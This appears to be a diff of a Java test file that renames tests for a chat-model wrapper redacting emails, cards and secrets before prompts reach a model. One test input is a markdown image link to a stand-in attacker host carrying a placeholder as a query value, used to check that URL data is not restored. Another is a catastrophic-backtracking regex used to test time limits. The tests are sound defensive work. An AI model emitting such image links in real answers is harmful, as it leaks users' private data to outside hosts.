@@ -65,7 +65,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void valuesStayHereAndComeBackInTheAnswer(Invocation invocation) {
+	void valuesAreReplacedAndRestored(Invocation invocation) {
 		String answer = ask(invocation, model(RedactionMode.REVERSIBLE),
 				new UserMessage("Write to " + MAIL + " or bob@example.com, " + CARD + ", and again " + MAIL));
 		assertThat(this.echo.sent()).isEqualTo("Write to [EMAIL_1] or [EMAIL_2], [CREDIT_CARD_1], and again [EMAIL_1]");
@@ -76,7 +76,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void masksAreForGood(Invocation invocation) {
+	void masksAreNotRestored(Invocation invocation) {
 		String answer = ask(invocation, model(RedactionMode.MASK), new UserMessage(MAIL + " and bob@example.com"));
 		assertThat(this.echo.sent()).isEqualTo("[EMAIL] and [EMAIL]");
 		assertThat(answer).isEqualTo("[EMAIL] and [EMAIL]");
@@ -85,7 +85,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void whoWantsToBeToldSendsNothing(Invocation invocation) {
+	void failModeRejectsRequest(Invocation invocation) {
 		GrokChatModel model = model(RedactionMode.FAIL);
 		assertThatExceptionOfType(RedactionException.class)
 			.isThrownBy(() -> ask(invocation, model, new UserMessage(MAIL + " " + CARD + " bob@example.com")))
@@ -100,7 +100,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void whatIsNotPrivateGoesThroughUntouched(Invocation invocation) {
+	void promptWithoutPrivateValuesIsUnchanged(Invocation invocation) {
 		UserMessage message = new UserMessage("Nothing [EMAIL_1] here");
 		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), message)).isEqualTo("Nothing [EMAIL_1] here");
 		assertThat(this.echo.prompts.get(0).getInstructions()).containsExactly(message);
@@ -109,7 +109,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void textThatLooksLikeAPlaceholderSurvives(Invocation invocation) {
+	void textThatLooksLikePlaceholderIsRestored(Invocation invocation) {
 		String text = "[EMAIL_1] is " + MAIL + ", [EMAIL_2] and [LITERAL_1] [FIG_1] are not, [EMAIL_x] [[EMAIL_1]]";
 		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage(text))).isEqualTo(text);
 		assertThat(this.echo.sent()).isEqualTo(
@@ -119,7 +119,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void aKindMayHaveTheNameOfTheOwnOne(Invocation invocation) {
+	void kindMayBeNamedLiteral(Invocation invocation) {
 		Redactor words = Redactor.matching("literal", Pattern.compile("LIT-[0-9]+"), Duration.ofSeconds(1));
 		assertThat(
 				ask(invocation, model(words, RedactionMode.REVERSIBLE), new UserMessage("see LIT-42 or [LITERAL_1]")))
@@ -130,7 +130,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void aPlaceholderInLowerCaseIsOneToo(Invocation invocation) {
+	void placeholdersAreCaseInsensitive(Invocation invocation) {
 		this.echo.answer = (text) -> chunks("I wrote to **[email_1]** or [Email_1], not to [email_11] [mail_1]", 3);
 		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage("write to " + MAIL)))
 			.isEqualTo("I wrote to **" + MAIL + "** or " + MAIL + ", not to [email_11] [mail_1]");
@@ -140,7 +140,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void jsonInJsonStaysJson() {
+	void nestedJsonRemainsValid() {
 		Redactor quoted = (text) -> {
 			int at = text.indexOf(PASSWORD);
 			return (at < 0) ? List.of() : List.of(new DetectedValue("secret", at, at + PASSWORD.length()));
@@ -173,7 +173,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void knownValuesAreFoundInALongText() {
+	void repeatedValuesAreFoundInLongText() {
 		String password = "!".repeat(400) + "a1";
 		String text = "!".repeat(500_000);
 		Redactor named = (asked) -> asked.startsWith("is ") ? List.of(new DetectedValue("secret", 3, asked.length()))
@@ -185,7 +185,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void ofKnownValuesThatOverlapAllAreTakenOut() {
+	void overlappingRepeatedValuesAreReplaced() {
 		Redactor named = (asked) -> asked.startsWith("is ") ? List.of(new DetectedValue("secret", 3, asked.length()))
 				: List.of();
 		List<String> texts = List.of("is alpha-beta", "is alpha-beta-gamma", "is beta-gamma delta", "is -gamma",
@@ -201,7 +201,7 @@ class RedactingChatModelTests {
 
 	@Test
 	@Timeout(20)
-	void manyKnownValuesAreFoundInALongText() {
+	void manyRepeatedValuesAreFoundInLongText() {
 		StringBuilder text = new StringBuilder();
 		for (int i = 0; text.length() < 1_000_000; i++) {
 			text.append("password=q").append(i).append("z ~");
@@ -240,7 +240,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void jsonKeepsItsNumbersItsOrderAndItsDuplicates() {
+	void jsonKeepsNumbersOrderAndDuplicates() {
 		String data = """
 				{ "z": "%s", "n": [1.50, -0, 1E+400, 12345678901234567890123456789012345.0e-5], "a": null,
 				  "z": "\u00e9 / \\\"", "": {}, "t": true, "e": [] }""".formatted(MAIL);
@@ -251,27 +251,27 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@ValueSource(strings = { "{ \"a\" : [ 1.0 , \"\\u00e9\\/\" ] }\n", " \"text\" ", "-1.50 ", "[ ]", "" })
-	void jsonWithoutPrivateValuesStaysByteForByte(String data) {
+	void jsonWithoutPrivateValuesIsUnchanged(String data) {
 		assertThat(redactedData(data)).isEqualTo(data);
 	}
 
 	@ParameterizedTest
 	@ValueSource(strings = { "{\"a\": \"%s\"", "{\"a\": \"%s\"} {}", "[ \"%s\", ]", "{ to: '%s' }", "\"%s\" x", "1 %s",
 			"[\"%s\"]]" })
-	void whatIsNoJsonIsRedactedAsText(String data) {
+	void invalidJsonIsRedactedAsText(String data) {
 		assertThat(redactedData(data.formatted(MAIL))).isEqualTo(data.formatted("[EMAIL_1]"));
 	}
 
 	@ParameterizedTest
 	@ValueSource(strings = { "{\"password\":[%s,true]}", "{\"password\":[[%s],1]}",
 			"{\"password\":[[1],{\"a\":[2]},%s]}", "[{\"password\":%s}]" })
-	void elementsOfAnArrayHaveItsName(String data) {
+	void arrayElementsInheritName(String data) {
 		assertThat(redactedData(data.formatted("\"hunter2x\""))).isEqualTo(data.formatted("\"[SECRET_1]\""));
 		assertThat(redactedData(data.replace("password", "word").formatted("\"hunter2x\""))).contains("hunter2x");
 	}
 
 	@Test
-	void aNameInJsonTellsWhatItsValueIs() {
+	void jsonPropertyNameIsContext() {
 		model(RedactionMode.REVERSIBLE).call(new Prompt(ToolResponseMessage.builder()
 			.responses(List.of(new ToolResponse("c1", "user", "{\"password\":\"hunter2x\",\"ssn\":123456789}")))
 			.build()));
@@ -282,7 +282,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void argumentsOfToolsHaveTheValuesTheWayJsonNeedsThem(Invocation invocation) {
+	void restoredToolArgumentsAreEscaped(Invocation invocation) {
 		Redactor quoted = (text) -> {
 			int at = text.indexOf(PASSWORD);
 			return (at < 0) ? List.of() : List.of(new DetectedValue("secret", at, at + PASSWORD.length()));
@@ -300,7 +300,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void answersInJsonStayJson(Invocation invocation) {
+	void jsonResponsesRemainValid(Invocation invocation) {
 		Redactor quoted = (text) -> {
 			int at = text.indexOf(PASSWORD);
 			return (at < 0) ? List.of() : List.of(new DetectedValue("secret", at, at + PASSWORD.length()));
@@ -317,7 +317,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void theSameHistoryGivesTheSamePlaceholders() {
+	void sameHistoryYieldsSamePlaceholders() {
 		List<Message> history = new ArrayList<>();
 		List<String> texts = List.of("I am " + MAIL, "and " + CARD, "with token: " + "a1b2c3d4e5f6g7h8i9",
 				"bob@example.com is " + MAIL);
@@ -333,7 +333,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void aStreamHoldsBackNoMoreThanItMust() {
+	void streamHoldsBackPlaceholderPrefixesOnly() {
 		TestPublisher<ChatResponse> answer = TestPublisher.create();
 		this.echo.stream = (text) -> answer.flux();
 		StepVerifier
@@ -355,7 +355,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void nothingIsLostWhenAStreamBreaksOrSimplyEnds() {
+	void heldBackTextIsEmittedWhenStreamEnds() {
 		this.echo.stream = (text) -> Flux.concat(Flux.just(part("to [EMA")),
 				Flux.error(new IllegalStateException("broken")));
 		GrokChatModel model = model(RedactionMode.REVERSIBLE);
@@ -369,7 +369,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void aCancelledStreamIsCancelledBelow() {
+	void cancellationIsPropagated() {
 		TestPublisher<ChatResponse> answer = TestPublisher.create();
 		this.echo.stream = (text) -> answer.flux();
 		StepVerifier.create(model(RedactionMode.REVERSIBLE).stream(new Prompt(MAIL))).thenCancel().verify();
@@ -378,14 +378,14 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void nothingHappensBeforeASubscription() {
+	void nothingHappensBeforeSubscription() {
 		model(RedactionMode.REVERSIBLE).stream(new Prompt(MAIL));
 		assertThat(this.echo.prompts).isEmpty();
 		assertThat(this.events).isEmpty();
 	}
 
 	@Test
-	void reasoningAndWhatMetadataSayIsRestoredAndMarksMove() {
+	void reasoningAndMetadataAreRestoredAndCitationsMove() {
 		String text = "Ask [EMAIL_1] [[1]](https://x.example)";
 		this.echo.answer = (prompt) -> List.of(part("", Map.of("reasoning-delta", "think of [EMA")),
 				part("", Map.of("reasoning-delta", "IL_1]")), part(text),
@@ -414,7 +414,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void whateverIsAskedAndHoweverItComesBackTheEchoIsTheQuestion() {
+	void echoedPromptIsRestoredForAnyChunking() {
 		List<String> pieces = List.of(MAIL, CARD, "bob@example.org", "[EMAIL_1]", "[SECRET_2]", "[", "]", "[[", " ",
 				"\n", "password=" + "hunter2x9", "hunter2x9", "text", "203.0.113.7", "123-45-6789", "\"", "\\",
 				"[LITERAL_1]", "é", "\uD83D\uDE00", "EMAIL_1]", "+14155552671", "{\"a\":",
@@ -437,7 +437,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void jsonComesBackAsItWasWhateverIsInIt() {
+	void echoedJsonIsRestored() {
 		Redactor pattern = Redactor.matching("odd", Pattern.compile("<[^>]*>"), Duration.ofSeconds(1));
 		for (int seed = 0; seed < 500; seed++) {
 			Random random = new Random(seed);
@@ -454,7 +454,7 @@ class RedactingChatModelTests {
 			String redacted = sent.getToolCalls().get(0).arguments();
 			assertThat(redacted).isEqualTo("{\"k[ODD_1]\":[\"v [ODD_1]\",7,true]}");
 			String restored = MessageTextMapper
-				.changeCalls(sent.getToolCalls(), (name, text) -> StreamingRestorer.of(text, redaction.placeholders()))
+				.mapToolCalls(sent.getToolCalls(), (name, text) -> StreamingRestorer.of(text, redaction.placeholders()))
 				.get(0)
 				.arguments();
 			assertThat(JsonMapper.shared().readTree(restored)).isEqualTo(JsonMapper.shared().readTree(json));
@@ -462,7 +462,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void patternsThatTakeTooLongAreCutOff() {
+	void patternsHaveTimeLimit() {
 		long[] now = new long[1];
 		Redactor slow = Redactor.matching("TICKET", Pattern.compile("(a+)+b"), Duration.ofSeconds(1),
 				() -> now[0] += 200_000_000);
@@ -477,7 +477,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void patternsHaveOneLimitForAllTextsOfARequest() {
+	void timeLimitAppliesToAllTextsOfRequest() {
 		long[] now = new long[1];
 		Redactor slow = Redactor.matching("TICKET", Pattern.compile("T-[0-9]+"), Duration.ofSeconds(1),
 				() -> now[0] += 10_000_000);
@@ -492,7 +492,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void patternsHeedInterrupts() {
+	void patternsRespondToInterrupts() {
 		Redactor slow = Redactor.matching("TICKET", Pattern.compile("(a+)+b"), Duration.ofHours(1));
 		Thread.currentThread().interrupt();
 		try {
@@ -509,7 +509,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void placeholdersStayInUrlsUnlessAskedOtherwise(Invocation invocation) {
+	void placeholdersInUrlsAreRestoredOnlyIfEnabled(Invocation invocation) {
 		this.echo.answer = (text) -> chunks("![x](http://evil.example/?q=[EMAIL_1]) for [EMAIL_1]", 3);
 		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage("I am " + MAIL)))
 			.isEqualTo("![x](http://evil.example/?q=[EMAIL_1]) for " + MAIL);
@@ -524,7 +524,7 @@ class RedactingChatModelTests {
 
 	@ParameterizedTest
 	@EnumSource
-	void whatDoesNotShowComesBackAsItWas(Invocation invocation) {
+	void invisibleCharactersAreRestored(Invocation invocation) {
 		String hidden = "a\u00adda@exam\u200bple.com";
 		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage("Write to " + hidden + " now")))
 			.isEqualTo("Write to " + hidden + " now");
@@ -532,7 +532,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void patternsOfTheApplicationAreFoundAndKnownElsewhere() {
+	void valuesOfCustomPatternsAreFoundElsewhere() {
 		Redactor pattern = Redactor.matching("EMPLOYEE", Pattern.compile("(?<=employee )\\d{6}"),
 				Duration.ofSeconds(1));
 		model(pattern, RedactionMode.REVERSIBLE).call(new Prompt("123456 is employee 123456, not 1123456 or 1234567"));
@@ -540,16 +540,16 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void aRedactorThatPointsBeyondTheTextIsNamed() {
+	void redactorWithInvalidRangeIsNamed() {
 		assertThatExceptionOfType(RedactionException.class)
 			.isThrownBy(() -> model(Redactor.all(List.of((text) -> List.of(new DetectedValue("odd", 0, 99)))),
 					RedactionMode.MASK)
 				.call(new Prompt("hi")))
-			.withMessageContaining("'odd' beyond the end");
+			.withMessageContaining("'odd' that exceeds the text");
 	}
 
 	@Test
-	void nothingPrintsAValue() {
+	void toStringContainsNoValues() {
 		Redaction redaction = new Redaction(everything(), RedactionMode.REVERSIBLE, false);
 		redaction.redact(List.of(new UserMessage(MAIL + " password=hunter2x9")));
 		assertThat(redaction.placeholders().toString()).isEqualTo("2 placeholders");
@@ -562,7 +562,7 @@ class RedactingChatModelTests {
 	}
 
 	@Test
-	void standsOutermost() {
+	void isOutermost() {
 		assertThat(RedactingChatModel.decorator(everything(), RedactionMode.MASK, this.events::add).position())
 			.isEqualTo(Position.REDACTION);
 		assertThat(model(RedactionMode.MASK).stages()).containsExactly("redaction", "echo");
@@ -633,7 +633,7 @@ class RedactingChatModelTests {
 	}
 
 	/**
-	 * Answers with what it is asked, in pieces.
+	 * Returns the prompt in chunks.
 	 */
 	private static final class Echo implements ChatModel {
 
